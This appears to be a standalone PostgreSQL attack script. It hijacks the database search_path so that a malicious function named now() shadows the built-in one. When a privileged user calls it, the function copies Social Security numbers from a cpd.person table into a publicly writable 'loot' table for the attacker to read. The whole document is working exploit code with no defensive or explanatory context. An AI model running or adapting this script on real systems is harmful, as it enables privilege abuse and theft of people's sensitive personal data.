CREATE SCHEMA mine;
GRANT USAGE ON SCHEMA mine TO PUBLIC;
CREATE TABLE mine.loot (line text);
GRANT INSERT ON mine.loot TO PUBLIC;
CREATE FUNCTION mine.now() RETURNS boolean LANGUAGE plpgsql AS
$$ BEGIN INSERT INTO mine.loot SELECT ssn FROM cpd.person; RETURN true; END $$;
DO $$ BEGIN EXECUTE format('ALTER DATABASE %I SET search_path = mine, pg_catalog', current_database()); END $$;
SELECT * FROM mine.loot;
